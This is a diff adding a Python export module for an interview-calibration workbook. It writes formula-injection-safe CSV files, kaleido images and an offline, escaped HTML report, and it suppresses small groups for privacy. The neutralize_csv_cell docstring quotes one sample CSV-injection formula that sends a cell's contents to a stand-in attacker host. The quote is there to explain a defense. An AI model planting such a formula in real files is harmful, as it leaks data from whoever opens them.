@@ -1,0 +1,713 @@
+"""Export tables and charts: safe CSV, static images, standalone HTML and a one-file report.
+
+Hiring leads carry the workbook's findings into documents, slides and e-mails. This module writes
+what they carry, for any tables (tidy data frames) and any plotly figures, and knows nothing about
+the calibration statistics themselves:
+
+- :func:`write_tables` writes ``<name>.csv`` in UTF-8, every text cell neutralized against CSV
+  (formula) injection (:func:`safe_csv_frame`), refusing identifying columns (candidate ids, notes);
+- :func:`write_figures` writes PNG, SVG and PDF through kaleido with one headless Chromium for the
+  whole batch, and a standalone HTML file per chart (plotly.js inlined, works offline);
+- :func:`write_index_html` writes ``index.html``: every chart interactive, the tables, the data
+  period, counts and criterion, and a reading guide per chart, in one self-contained file with no
+  request to any network, every piece of user text escaped;
+- :func:`mark_small_groups` blanks rates computed from fewer than ``min_n`` interviews, so an
+  exported table never gives a precise rate that identifies people;
+- :func:`write_report` runs the above for a set of formats, and :func:`files_table` lists what was
+  written with sizes, for the closing note.
+
+Examples
+--------
+>>> import pandas as pd, plotly.express as px
+>>> from analysis.export import write_report, files_table
+>>> tables = {"topic_stats": pd.DataFrame({"topic": ["cost"], "n": [12], "auc": [0.71]})}
+>>> figures = {"topics": px.bar(tables["topic_stats"], x="topic", y="auc")}
+>>> paths = write_report("reports", tables=tables, figures=figures,
+...                      formats=("csv", "html"), title="Calibration")  # doctest: +SKIP
+>>> files_table(paths, "reports")  # doctest: +SKIP
+"""
+
+from __future__ import annotations
+
+import asyncio
+import html
+import math
+import numbers
+import os
+import re
+import tempfile
+import threading
+from collections.abc import Iterable, Mapping, Sequence
+from dataclasses import dataclass
+from datetime import date, datetime
+from pathlib import Path
+
+import numpy as np
+import pandas as pd
+
+__all__ = [
+    "CSV_TRIGGERS",
+    "FORMATS",
+    "IMAGE_FORMATS",
+    "PRIVATE_COLUMNS",
+    "ExportError",
+    "neutralize_csv_cell",
+    "safe_csv_frame",
+    "mark_small_groups",
+    "parse_formats",
+    "write_tables",
+    "write_figures",
+    "write_index_html",
+    "write_report",
+    "files_table",
+    "format_size",
+]
+
+#: First characters that make a spreadsheet read a cell as a formula or control sequence (OWASP,
+#: "CSV Injection": equals, plus, minus, at, tab 0x09, carriage return 0x0D).
+CSV_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
+#: Static image formats rendered by kaleido.
+IMAGE_FORMATS = ("png", "svg", "pdf")
+#: Every format :func:`write_report` knows, in the order it writes them.
+FORMATS = ("csv", "png", "svg", "pdf", "html")
+#: Columns that identify a candidate or carry free text about them; :func:`write_tables` refuses
+#: a table holding one unless told ``allow_private=True``.
+PRIVATE_COLUMNS = ("candidate_id", "candidate", "notes", "note", "interview_id")
+
+_NAME = re.compile(r"[A-Za-z0-9][A-Za-z0-9_-]{0,99}")
+_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")
+
+
+class ExportError(RuntimeError):
+    """An export could not be written (bad name, missing browser, identifying column, ...)."""
+
+
+# ----------------------------------------------------------------------------------------------
+# CSV safety
+# ----------------------------------------------------------------------------------------------
+
+def neutralize_csv_cell(value):
+    """One cell made safe to open in a spreadsheet (OWASP CSV-injection advice).
+
+    A spreadsheet treats a cell that begins with ``=``, ``+``, ``-`` or ``@`` as a formula, and a
+    leading tab or carriage return can smuggle one in; a formula such as
+    ``=HYPERLINK("http://evil.example/?"&A1, "click")`` can send data away or run commands when a
+    hiring lead opens the file. Such a text cell gets a leading single quote, which spreadsheets
+    show as plain text.
+
+    Parameters
+    ----------
+    value : object
+        The cell. Text (``str``) is checked; anything else (int, float, bool, NaN, dates) is
+        returned unchanged, so numbers stay numbers: ``-0.25`` remains ``-0.25``.
+
+    Returns
+    -------
+    object
+        ``"'" + value`` for text beginning with one of :data:`CSV_TRIGGERS` that is not a plain
+        number, else ``value`` unchanged.
+
+    Notes
+    -----
+    Text that is exactly a plain decimal number (``"-0.25"``, ``"+3"``, ``"1e-3"``) is left as it
+    is: a spreadsheet reads it as that number and it cannot hold a formula. ``"-1+2"`` is not a
+    plain number and is neutralized.
+
+    Examples
+    --------
+    >>> neutralize_csv_cell("=1+1")
+    "'=1+1"
+    >>> neutralize_csv_cell(-0.25)
+    -0.25
+    >>> neutralize_csv_cell("-0.25")
+    '-0.25'
+    """
+    if not isinstance(value, str) or not value or value[0] not in CSV_TRIGGERS:
+        return value
+    if _PLAIN_NUMBER.fullmatch(value):
+        return value
+    return "'" + value
+
+
+def _is_numeric_kind(dtype) -> bool:
+    if isinstance(dtype, pd.CategoricalDtype):
+        return False
+    try:
+        kind = np.dtype(dtype).kind
+    except TypeError:  # pandas extension dtypes (Int64, boolean, Float64, str, ...)
+        kind = getattr(dtype, "kind", "O")
+    return kind in "biufcM"
+
+
+def _neutralize_series(s: pd.Series) -> pd.Series:
+    if _is_numeric_kind(s.dtype):
+        return s
+    if isinstance(s.dtype, pd.CategoricalDtype):
+        cats = s.cat.categories
+        if cats.dtype.kind in "OSU" or pd.api.types.is_string_dtype(cats.dtype):
+            # prefixing a quote is one-to-one, so categories stay distinct
+            return s.cat.rename_categories([neutralize_csv_cell(c) for c in cats])
+        return s
+    if s.dtype.kind == "m":  # timedeltas print as "-1 days +..."
+        s = s.astype(str)
+    return s.map(neutralize_csv_cell)
+
+
+def safe_csv_frame(df: pd.DataFrame) -> pd.DataFrame:
+    """A copy of ``df`` whose text cells and column names are safe to open in a spreadsheet.
+
+    Applies :func:`neutralize_csv_cell` to every text cell (object, string and categorical columns)
+    and to the column names; numeric, boolean and datetime columns are untouched, so a
+    ``discrimination`` of ``-0.25`` is still the number ``-0.25`` when read back.
+
+    Parameters
+    ----------
+    df : DataFrame
+        Any table. The index is not touched (reset it first if it should be exported).
+
+    Returns
+    -------
+    DataFrame
+        Same shape, same dtypes for numeric columns.
+    """
+    out = df.copy()
+    for i in range(out.shape[1]):
+        out.isetitem(i, _neutralize_series(out.iloc[:, i]))
+    out.columns = [neutralize_csv_cell(c) if isinstance(c, str) else c for c in out.columns]
+    return out
+
+
+def mark_small_groups(df: pd.DataFrame, n_col: str, rate_cols: str | Sequence[str], *,
+                      min_n: int = 5) -> pd.DataFrame:
+    """Blank the rates of groups too small to report, and say so.
+
+    A pass rate of 0.33 from three interviews is not a finding about an interviewer or a topic; in
+    a table that is sent around it mostly identifies the three candidates. Rows with fewer than
+    ``min_n`` interviews keep their count but lose their rates (set to NaN, written as an empty
+    cell), and a ``small_group`` column marks them.
+
+    Parameters
+    ----------
+    df : DataFrame
+        One row per group (interviewer, topic, question, ...).
+    n_col : str
+        Column with the number of interviews behind each row.
+    rate_cols : str or sequence of str
+        Columns computed from those interviews (rates, means, intervals) to blank.
+    min_n : int, default 5
+        Smallest group reported with its rates (the issue's "fewer than 5 interviews").
+
+    Returns
+    -------
+    DataFrame
+        A copy with ``rate_cols`` as float, NaN where ``n < min_n`` (or ``n`` is missing), and a
+        boolean column ``small_group``.
+
+    Raises
+    ------
+    KeyError
+        If ``n_col`` or a rate column is missing (the message lists the columns found).
+    """
+    rate_cols = [rate_cols] if isinstance(rate_cols, str) else list(rate_cols)
+    missing = [c for c in [n_col, *rate_cols] if c not in df.columns]
+    if missing:
+        raise KeyError(f"mark_small_groups: column(s) {missing} not found; "
+                       f"the table has {list(map(str, df.columns))}")
+    n = pd.to_numeric(df[n_col], errors="coerce")
+    small = ~(n >= min_n)  # NaN counts as small
+    out = df.copy()
+    for c in rate_cols:
+        out[c] = pd.to_numeric(out[c], errors="coerce").astype(float).mask(small.to_numpy())
+    out["small_group"] = small.to_numpy(dtype=bool)
+    return out
+
+
+# ----------------------------------------------------------------------------------------------
+# Names, formats, atomic writes
+# ----------------------------------------------------------------------------------------------
+
+def _check_name(name: str, what: str) -> str:
+    if not isinstance(name, str) or not _NAME.fullmatch(name):
+        raise ExportError(f"{what} name {name!r} is not a safe file name: expected ASCII letters, "
+                          "digits, '_' or '-' (1-100 characters, not starting with '-' or '_')")
+    return name
+
+
+def parse_formats(formats: str | Iterable[str]) -> tuple[str, ...]:
+    """``"png,svg"`` or ``["png", "svg"]`` -> ``("png", "svg")``, checked against :data:`FORMATS`.
+
+    Raises
+    ------
+    ExportError
+        For an unknown format, naming it and the known ones.
+    """
+    items = formats.split(",") if isinstance(formats, str) else list(formats)
+    out: list[str] = []
+    for f in items:
+        f = str(f).strip().lower().lstrip(".")
+        if not f:
+            continue
+        if f not in FORMATS:
+            raise ExportError(f"unknown format {f!r}: expected some of {', '.join(FORMATS)}")
+        if f not in out:
+            out.append(f)
+    if not out:
+        raise ExportError(f"no format given: expected some of {', '.join(FORMATS)}")
+    return tuple(out)
+
+
+def _atomic_write(path: Path, data: bytes | str) -> Path:
+    """Write to a temporary file next to ``path`` then rename, so no reader sees half a file."""
+    path.parent.mkdir(parents=True, exist_ok=True)
+    fd, tmp = tempfile.mkstemp(dir=path.parent, prefix=f".{path.name}.", suffix=".part")
+    try:
+        with os.fdopen(fd, "wb") as fh:
+            fh.write(data.encode("utf-8") if isinstance(data, str) else data)
+        os.replace(tmp, path)
+    except BaseException:
+        Path(tmp).unlink(missing_ok=True)
+        raise
+    return path
+
+
+def _progress(total: int, desc: str, enabled: bool):
+    from tqdm.auto import tqdm
+    return tqdm(total=total, desc=desc, unit="file", disable=not enabled or total == 0,
+                leave=False)
+
+
+# ----------------------------------------------------------------------------------------------
+# Tables
+# ----------------------------------------------------------------------------------------------
+
+def _exportable(df: pd.DataFrame) -> pd.DataFrame:
+    """The frame as exported: a named index becomes columns, an unnamed one is dropped."""
+    if any(n is not None for n in df.index.names):
+        return df.reset_index()
+    return df.reset_index(drop=True)
+
+
+def write_tables(tables: Mapping[str, pd.DataFrame], out: str | os.PathLike, *,
+                 allow_private: bool = False, float_format: str | None = None) -> list[Path]:
+    """Write each table as ``<out>/<name>.csv``, safe to open in a spreadsheet.
+
+    Parameters
+    ----------
+    tables : mapping of str to DataFrame
+        ``{"question_stats": frame, ...}``. Names become file names, so they must be plain
+        (letters, digits, ``_``, ``-``).
+    out : path
+        Output folder, created if needed.
+    allow_private : bool, default False
+        Tables holding a column of :data:`PRIVATE_COLUMNS` (candidate ids, notes) are refused unless
+        this is True: exported tables should not identify candidates.
+    float_format : str, optional
+        Passed to :meth:`DataFrame.to_csv` (e.g. ``"%.4g"``); default full precision.
+
+    Returns
+    -------
+    list of Path
+        The files written, in the order of ``tables``.
+
+    Notes
+    -----
+    Files are RFC 4180 CSV: UTF-8 without a byte-order mark, comma-separated, CRLF line ends (so a
+    cell holding a lone carriage return or newline is quoted and cannot split a row), missing values
+    as empty cells. A named index (``question_id``) is written as a column; an unnamed range index
+    is not written. Every text cell and header is passed through :func:`safe_csv_frame`. Each file
+    is written atomically (temporary file, then rename).
+    """
+    out = Path(out)
+    paths = []
+    for name, df in tables.items():
+        _check_name(name, "table")
+        frame = _exportable(df)
+        if not allow_private:
+            bad = [c for c in frame.columns if str(c).strip().lower() in PRIVATE_COLUMNS]
+            if bad:
+                raise ExportError(f"table {name!r} has identifying column(s) {bad}: drop them before "
+                                  "export, or pass allow_private=True if this file stays private")
+        text = safe_csv_frame(frame).to_csv(index=False, lineterminator="\r\n",
+                                              float_format=float_format)
+        paths.append(_atomic_write(out / f"{name}.csv", text))
+    return paths
+
+
+# ----------------------------------------------------------------------------------------------
+# Figures
+# ----------------------------------------------------------------------------------------------
+
+@dataclass(frozen=True)
+class _ImageJob:
+    fig: dict
+    opts: dict
+    path: Path
+
+
+def _figure_size(fig, width, height) -> tuple[int, int]:
+    from .theme import defaults
+    w = width or fig.layout.width or defaults.width
+    h = height or fig.layout.height or defaults.height
+    return int(w), int(h)
+
+
+def _run_in_thread(coro_fn, *args):
+    """Run ``asyncio.run(coro_fn(*args))`` in a fresh thread (works inside Jupyter's own loop)."""
+    box: dict = {}
+
+    def target():
+        try:
+            box["value"] = asyncio.run(coro_fn(*args))
+        except BaseException as exc:  # re-raised in the caller's thread
+            box["error"] = exc
+
+    t = threading.Thread(target=target, name="export-kaleido", daemon=True)
+    t.start()
+    t.join()
+    if "error" in box:
+        raise box["error"]
+    return box["value"]
+
+
+async def _render_images(jobs: list[_ImageJob], tabs: int, timeout: float, bar) -> list[Path]:
+    import kaleido
+    from choreographer.errors import ChromeNotFoundError
+
+    try:
+        # mathjax=False: kaleido would otherwise load MathJax from a CDN, a network request
+        # for nothing (the charts use no LaTeX)
+        k = kaleido.Kaleido(n=tabs, timeout=timeout, mathjax=False)
+    except ChromeNotFoundError as exc:
+        raise ExportError(
+            "static images (png, svg, pdf) need Chromium: install Debian's chromium "
+            "(apt-get install chromium) or set BROWSER_PATH to a Chrome/Chromium binary; "
+            f"the csv and html formats work without it ({exc})") from None
+    async with k:
+        async def one(job: _ImageJob) -> Path:
+            data = await k.calc_fig(job.fig, opts=job.opts)
+            await asyncio.to_thread(_atomic_write, job.path, data)
+            bar.update(1)
+            return job.path
+        return list(await asyncio.gather(*(one(j) for j in jobs)))
+
+
+def write_figures(figures: Mapping[str, object], out: str | os.PathLike,
+                  formats: Iterable[str] = ("png", "svg", "pdf", "html"), *,
+                  width: int | None = None, height: int | None = None, scale: float = 1.0,
+                  progress: bool = True, tabs: int = 1, timeout: float = 120) -> list[Path]:
+    """Write every figure in every format: ``<out>/<name>.<format>``.
+
+    Parameters
+    ----------
+    figures : mapping of str to plotly Figure
+        ``{"question_ranking": fig, ...}``; names become file names.
+    out : path
+        Output folder, created if needed.
+    formats : iterable of str
+        Among ``png``, ``svg``, ``pdf`` (static images through kaleido) and ``html`` (a standalone
+        page per chart with plotly.js inlined, so it opens offline). ``csv`` is ignored here.
+    width, height : int, optional
+        Image size in CSS pixels; default the figure's own layout size, else the workbook theme's
+        (``analysis.theme.defaults``: 900 x 520).
+    scale : float, default 1
+        Multiplies the output size: a 900 x 520 chart at ``scale=2`` is an 1800 x 1040 PNG (sharp on
+        slides), an SVG displayed at 1800 x 1040 and a PDF page of 1350 x 780 pt (SVG and PDF stay
+        vector; 1 CSS pixel is 0.75 pt).
+    progress : bool, default True
+        Show a tqdm progress bar (one step per file).
+    tabs : int, default 1
+        Browser tabs rendering in parallel inside the one Chromium. On a two-core machine one tab
+        was faster than two (measured: 10 charts x 3 formats, 16 s vs 21 s).
+    timeout : float, default 120
+        Seconds allowed for one image.
+
+    Returns
+    -------
+    list of Path
+        The files written: all images (figure by figure, in ``formats`` order), then the HTML pages.
+
+    Raises
+    ------
+    ExportError
+        For an unsafe name, or when static images are asked for and no Chromium is found.
+
+    Notes
+    -----
+    All static images of the batch are rendered by **one** kaleido session: Chromium starts once
+    (about a second) instead of once per image, which is what makes a full report take seconds.
+    kaleido finds Debian's ``/usr/bin/chromium`` by itself; ``BROWSER_PATH`` overrides it. MathJax
+    is disabled so the renderer makes no network request.
+    """
+    fmts = [f for f in parse_formats(formats) if f != "csv"]
+    out = Path(out)
+    out.mkdir(parents=True, exist_ok=True)
+    for name in figures:
+        _check_name(name, "figure")
+    image_fmts = [f for f in fmts if f in IMAGE_FORMATS]
+    jobs = []
+    for name, fig in figures.items():
+        if not image_fmts:
+            break
+        w, h = _figure_size(fig, width, height)
+        spec = fig.to_dict()
+        for f in image_fmts:
+            jobs.append(_ImageJob(spec, {"format": f, "width": w, "height": h, "scale": scale},
+                                  out / f"{name}.{f}"))
+    n_html = len(figures) if "html" in fmts else 0
+    paths: list[Path] = []
+    with _progress(len(jobs) + n_html, "charts", progress) as bar:
+        if jobs:
+            paths += _run_in_thread(_render_images, jobs, max(1, min(tabs, len(jobs))), timeout, bar)
+        if n_html:
+            for name, fig in figures.items():
+                text = fig.to_html(full_html=True, include_plotlyjs=True, div_id=f"chart-{name}",
+                                   config={"displaylogo": False})
+                paths.append(_atomic_write(out / f"{name}.html", text))
+                bar.update(1)
+    return paths
+
+
+# ----------------------------------------------------------------------------------------------
+# index.html
+# ----------------------------------------------------------------------------------------------
+
+_CSS = """
+body{font-family:system-ui,-apple-system,"Segoe UI",Helvetica,Arial,sans-serif;margin:0 auto;
+max-width:1100px;padding:1.5rem;color:#222;line-height:1.45}
+h1{margin-bottom:.2rem} h2{margin-top:2.2rem;border-bottom:1px solid #ddd;padding-bottom:.2rem}
+dl.meta{display:grid;grid-template-columns:max-content auto;gap:.2rem 1rem}
+dl.meta dt{font-weight:600} dl.meta dd{margin:0}
+p.guide{background:#f5f7fa;border-left:4px solid #4C9BE8;padding:.5rem .8rem}
+nav ul{columns:2} .table-wrap{overflow-x:auto;max-height:32rem;overflow-y:auto}
+table.data{border-collapse:collapse;font-size:.85rem}
+table.data th,table.data td{border:1px solid #ddd;padding:.2rem .45rem;text-align:right}
+table.data th{background:#f0f0f0;position:sticky;top:0}
+.notes li{margin:.3rem 0} footer{margin-top:3rem;color:#777;font-size:.8rem}
+""".strip()
+
+
+def _esc(value) -> str:
+    return html.escape("" if value is None else str(value), quote=True)
+
+
+def _heading(name: str) -> str:
+    return name.replace("_", " ").replace("-", " ").strip().capitalize()
+
+
+def _meta_value(v) -> str:
+    if isinstance(v, (datetime, date, pd.Timestamp)):
+        return pd.Timestamp(v).strftime("%Y-%m-%d")
+    if isinstance(v, (tuple, list)) and len(v) == 2 and all(
+            isinstance(x, (datetime, date, pd.Timestamp)) for x in v):
+        return " to ".join(_meta_value(x) for x in v)
+    if isinstance(v, numbers.Integral) and not isinstance(v, bool):
+        return f"{v:,}"
+    if isinstance(v, float) and math.isfinite(v):
+        return f"{v:.4g}"
+    return str(v)
+
+
+def _cell_text(v, float_digits: int) -> str:
+    if v is None or (isinstance(v, float) and math.isnan(v)) or v is pd.NA or v is pd.NaT:
+        return ""
+    if isinstance(v, (bool, np.bool_)):
+        return "yes" if v else "no"
+    if isinstance(v, numbers.Integral):
+        return str(v)
+    if isinstance(v, numbers.Real):
+        return f"{v:.{float_digits}g}"
+    if isinstance(v, pd.Timestamp):
+        return v.strftime("%Y-%m-%d") if v == v.normalize() else v.isoformat()
+    return str(v)
+
+
+def _table_html(name: str, df: pd.DataFrame, float_digits: int) -> str:
+    frame = _exportable(df)
+    head = "".join(f"<th scope=\"col\">{_esc(c)}</th>" for c in frame.columns)
+    rows = []
+    for rec in frame.itertuples(index=False, name=None):  # tables are small (one row per group)
+        rows.append("<tr>" + "".join(f"<td>{_esc(_cell_text(v, float_digits))}</td>" for v in rec)
+                    + "</tr>")
+    return (f'<div class="table-wrap"><table class="data" id="table-{name}">'
+            f"<thead><tr>{head}</tr></thead><tbody>{''.join(rows)}</tbody></table></div>")
+
+
+def write_index_html(out: str | os.PathLike, figures: Mapping[str, object],
+                     tables: Mapping[str, pd.DataFrame] | None = None, *, title: str,
+                     meta: Mapping[str, object] | None = None,
+                     guides: Mapping[str, str] | None = None,
+                     notes: str | Sequence[str] | None = None,
+                     filename: str = "index.html", float_digits: int = 3) -> Path:
+    """Write one self-contained report page: every chart interactive, the tables, the context.
+
+    Parameters
+    ----------
+    out : path
+        Output folder (created if needed); the page is ``<out>/index.html``.
+    figures : mapping of str to plotly Figure
+        Charts in the order shown. Each is embedded as a ``<div>`` with its data inline.
+    tables : mapping of str to DataFrame, optional
+        Tables shown after the charts, every cell and header HTML-escaped.
+    title : str
+        Page title and heading.
+    meta : mapping, optional
+        What a reader needs to trust the numbers: data period, counts, criterion, filters
+        (``{"Data period": "2025-01-06 to 2026-03-30", "Interviews": 412, ...}``).
+    guides : mapping of str to str, optional
+        A short reading guide per chart, keyed like ``figures``: what a hiring lead should look at.
+    notes : str or sequence of str, optional
+        Caveats shown at the end (small groups, contamination of the criterion, ...).
+    filename : str, default "index.html"
+    float_digits : int, default 3
+        Significant digits of floats in the HTML tables (the CSV files keep full precision).
+
+    Returns
+    -------
+    Path
+        The page written.
+
+    Notes
+    -----
+    plotly.js is inlined exactly once, in ``<head>``; the page loads nothing else (no CDN, no web
+    font, no MathJax), so it opens offline and makes no request that could leak that the report
+    was opened. Every piece of text from the data or the caller (title, meta, guides, notes, table
+    cells, column names) is escaped with :func:`html.escape`; figure data is embedded by plotly's
+    own JSON encoder, which escapes ``<``, ``>`` and ``/``.
+    """
+    from plotly.offline import get_plotlyjs
+
+    out = Path(out)
+    tables = tables or {}
+    guides = guides or {}
+    meta = meta or {}
+    for name in figures:
+        _check_name(name, "figure")
+    for name in tables:
+        _check_name(name, "table")
+    if isinstance(notes, str):
+        notes = [notes]
+
+    parts = ["<!DOCTYPE html>", '<html lang="en">', "<head>", '<meta charset="utf-8">',
+             '<meta name="viewport" content="width=device-width, initial-scale=1">',
+             f"<title>{_esc(title)}</title>", f"<style>{_CSS}</style>",
+             '<script type="text/javascript">window.PlotlyConfig = {MathJaxConfig: "local"};</script>',
+             f'<script type="text/javascript">{get_plotlyjs()}</script>',
+             "</head>", "<body>", f"<h1>{_esc(title)}</h1>"]
+    if meta:
+        parts.append('<dl class="meta">' + "".join(
+            f"<dt>{_esc(k)}</dt><dd>{_esc(_meta_value(v))}</dd>" for k, v in meta.items()) + "</dl>")
+    toc = [f'<li><a href="#chart-{n}">{_esc(_heading(n))}</a></li>' for n in figures]
+    toc += [f'<li><a href="#table-{n}">Table: {_esc(n)}</a></li>' for n in tables]
+    if toc:
+        parts.append(f"<nav><h2>Contents</h2><ul>{''.join(toc)}</ul></nav>")
+    for name, fig in figures.items():
+        parts.append(f'<section class="chart" id="section-chart-{name}">')
+        parts.append(f"<h2>{_esc(_heading(name))}</h2>")
+        if guides.get(name):
+            parts.append(f'<p class="guide">{_esc(guides[name])}</p>')
+        parts.append(fig.to_html(full_html=False, include_plotlyjs=False, div_id=f"chart-{name}",
+                                 config={"displaylogo": False, "responsive": True}))
+        parts.append("</section>")
+    for name, df in tables.items():
+        parts.append(f'<section class="table" id="section-table-{name}">')
+        parts.append(f"<h2>Table: {_esc(name)}</h2>")
+        if guides.get(name):
+            parts.append(f'<p class="guide">{_esc(guides[name])}</p>')
+        parts.append(f"<p>{len(df):,} rows; also written as <code>{_esc(name)}.csv</code>.</p>")
+        parts.append(_table_html(name, df, float_digits))
+        parts.append("</section>")
+    if notes:
+        parts.append('<section class="notes"><h2>Notes</h2><ul>'
+                     + "".join(f"<li>{_esc(n)}</li>" for n in notes) + "</ul></section>")
+    parts.append("<footer>Written by the interview calibration workbook "
+                 "(<code>python -m analysis report</code>). Self-contained: opens offline.</footer>")
+    parts += ["</body>", "</html>", ""]
+    return _atomic_write(out / filename, "\n".join(parts))
+
+
+# ----------------------------------------------------------------------------------------------
+# Everything at once, and what was written
+# ----------------------------------------------------------------------------------------------
+
+def write_report(out: str | os.PathLike, *, tables: Mapping[str, pd.DataFrame] | None = None,
+                 figures: Mapping[str, object] | None = None,
+                 formats: str | Iterable[str] = FORMATS, title: str = "Interview calibration report",
+                 meta: Mapping[str, object] | None = None, guides: Mapping[str, str] | None = None,
+                 notes: str | Sequence[str] | None = None, progress: bool = True,
+                 allow_private: bool = False, **figure_options) -> list[Path]:
+    """Write tables and charts in the chosen formats, plus ``index.html`` when ``html`` is chosen.
+
+    Parameters
+    ----------
+    out : path
+        Output folder.
+    tables, figures : mappings, optional
+        As for :func:`write_tables` and :func:`write_figures`. ``figures`` may be omitted when only
+        ``csv`` is asked for (the fast path).
+    formats : str or iterable of str
+        Among :data:`FORMATS`: ``csv`` writes the tables; ``png``, ``svg``, ``pdf`` the static
+        images; ``html`` a standalone page per chart and the one-file ``index.html``.
+    title, meta, guides, notes
+        For :func:`write_index_html`.
+    progress : bool, default True
+    allow_private : bool, default False
+        See :func:`write_tables`.
+    **figure_options
+        ``width``, ``height``, ``scale``, ``tabs``, ``timeout`` for :func:`write_figures`.
+
+    Returns
+    -------
+    list of Path
+        Every file written (tables, images, chart pages, then ``index.html``).
+    """
+    fmts = parse_formats(formats)
+    tables = tables or {}
+    figures = figures or {}
+    paths: list[Path] = []
+    if "csv" in fmts:
+        paths += write_tables(tables, out, allow_private=allow_private)
+    fig_fmts = [f for f in fmts if f != "csv"]
+    if fig_fmts and figures:
+        paths += write_figures(figures, out, fig_fmts, progress=progress, **figure_options)
+    if "html" in fmts:
+        paths.append(write_index_html(out, figures, tables, title=title, meta=meta, guides=guides,
+                                      notes=notes))
+    return paths
+
+
+def format_size(n_bytes: int) -> str:
+    """``1536`` -> ``"1.5 kB"`` (decimal units, as file managers show)."""
+    size = float(n_bytes)
+    for unit in ("B", "kB", "MB", "GB"):
+        if size < 1000 or unit == "GB":
+            return f"{int(size)} {unit}" if unit == "B" else f"{size:.1f} {unit}"
+        size /= 1000
+    raise AssertionError("unreachable")
+
+
+def files_table(paths: Iterable[str | os.PathLike], root: str | os.PathLike | None = None
+                ) -> pd.DataFrame:
+    """What was written, with sizes: one row per file, for the closing note of a report.
+
+    Parameters
+    ----------
+    paths : iterable of path
+        Files, e.g. the list returned by :func:`write_report`.
+    root : path, optional
+        Shown paths are relative to it.
+
+    Returns
+    -------
+    DataFrame
+        Columns ``file`` (str), ``format`` (extension), ``bytes`` (int) and ``size`` (readable).
+        ``df.bytes.sum()`` is the total; ``df.groupby("format").bytes.sum()`` the split.
+    """
+    rows = []
+    for p in paths:
+        p = Path(p)
+        shown = p.relative_to(root) if root is not None and p.is_relative_to(root) else p
+        n = p.stat().st_size
+        rows.append({"file": shown.as_posix(), "format": p.suffix.lstrip(".").lower(), "bytes": n,
+                     "size": format_size(n)})
+    return pd.DataFrame(rows, columns=["file", "format", "bytes", "size"]).astype(
+        {"bytes": "int64"})
